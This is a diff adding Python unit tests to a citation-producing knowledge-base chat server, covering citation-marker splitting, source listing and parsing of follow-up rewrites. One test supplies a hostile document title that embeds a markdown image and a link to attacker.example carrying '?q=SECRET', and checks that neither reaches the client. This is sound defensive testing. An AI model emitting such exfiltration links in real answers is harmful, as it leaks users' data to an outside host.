@@ -333,3 +333,48 @@ def test_a_flood_beyond_the_queue_is_told_to_retry_and_the_server_keeps_serving(
     assert len(results) == flood
     assert [m.id for m in client.models.list().data] == ["kb:course"]
     assert client.embeddings.create(model="kb:course", input="rain").data
+
+
+def _answer(text, titles):
+    from kb.types import Answer, Evidence, Hit, Locator, SourceRef
+
+    cited = [
+        Evidence(key=i, hit=Hit(i, 100 + i, 0.5, f"Passage {i}.", SourceRef(f"file:///c/{i}.pdf", t, "pdf"),
+                                Locator(page=i), f"file:///c/{i}.pdf#page={i}"), score=6.0, quotes=[f"Passage {i}."])
+        for i, t in enumerate(titles, 1)
+    ]  # fmt: skip
+    return Answer(question="q?", text=text, abstained=False, evidence=cited, cited=cited)
+
+
+def test_grouped_markers_are_split_and_every_span_is_its_marker():
+    from kb.chat import reply
+
+    made = reply(_answer("Rain is measured with gauges [1, 2]. Snow too [2].", ["Notes", "Guide"]), lambda h: h.link)
+    assert made.text == "Rain is measured with gauges [1][2]. Snow too [2]."
+    spans = [(a["url_citation"]["start_index"], a["url_citation"]["end_index"]) for a in made.annotations]
+    assert [made.content[s:e] for s, e in spans] == ["[1]", "[2]", "[2]"]
+    assert made.content.endswith(
+        "Sources:\n[1] Notes, page 1: file:///c/1.pdf#page=1\n[2] Guide, page 2: file:///c/2.pdf#page=2"
+    )
+
+
+def test_a_hostile_title_reaches_no_client_as_an_image_or_link():
+    from kb.chat import reply
+
+    title = "Notes ![x](http://attacker.example/?q=SECRET) see http://attacker.example/more"
+    made = reply(_answer("Rain falls [1].", [title]), lambda h: h.link)
+    assert "attacker.example" not in made.content and "![" not in made.content
+    assert "attacker.example" not in json.dumps(made.citations + made.annotations)
+
+
+def test_a_follow_up_rewrite_is_checked_in_code():
+    from kb.followup import Turn, fallback, parse_rewrite
+
+    asked = "and how is it measured?"
+    assert parse_rewrite('{"question": "How is soil moisture measured?"}', asked) == "How is soil moisture measured?"
+    # The small model's usual slip: the earlier question again, which no longer asks what was asked.
+    assert parse_rewrite('{"question": "What is soil moisture?"}', asked) is None
+    assert parse_rewrite('{"question": "How is it measured? And why?"}', asked) is None
+    assert parse_rewrite('{"quotes": []}', asked) is None and parse_rewrite("not json", asked) is None
+    history = [Turn("user", "What is soil moisture?"), Turn("assistant", "Water in the soil [1].")]
+    assert fallback(history, asked) == "What is soil moisture? and how is it measured?"
